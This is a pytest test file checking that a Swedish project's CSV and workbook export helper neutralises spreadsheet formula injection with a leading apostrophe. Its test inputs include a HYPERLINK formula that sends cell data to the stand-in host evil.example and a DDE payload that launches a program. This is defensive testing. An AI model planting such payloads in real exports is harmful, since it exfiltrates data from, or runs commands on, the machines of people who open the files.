"""The shared export helper: text that a spreadsheet would run as a formula comes out inert;
numbers, negative amounts among them, stay numbers."""

import csv
import io

import pytest

from sifra.core.exports import csv_text, inert, workbook

ATTACK = '=HYPERLINK("https://evil.example/?x="&A2;"Klicka")'


@pytest.mark.parametrize(
    "text", [ATTACK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
)
def test_formula_like_text_gets_a_leading_apostrophe(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["-1234,50", "+12", "-7", "1.5", 42, -3, None, "Budget", ""])
def test_numbers_and_plain_text_are_left_alone(value):
    assert inert(value) == value


def test_csv_text_keeps_the_swedish_conventions_and_quotes_every_cell():
    text = csv_text([["Titel", "Belopp"], [ATTACK, "-1500,00"]])
    assert text.startswith("\ufeff") and "\r\n" in text
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows == [["Titel", "Belopp"], ["'" + ATTACK, "-1500,00"]]


def test_the_workbook_writes_text_as_text(tmp_path):
    buffer = io.BytesIO()
    book = workbook(buffer)
    book.add_worksheet().write_row(0, 0, [ATTACK, "https://evil.example/"])
    book.close()
    import zipfile

    with zipfile.ZipFile(buffer) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        strings = z.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "hyperlink" not in sheet
    assert "HYPERLINK" in strings and "evil.example" in strings
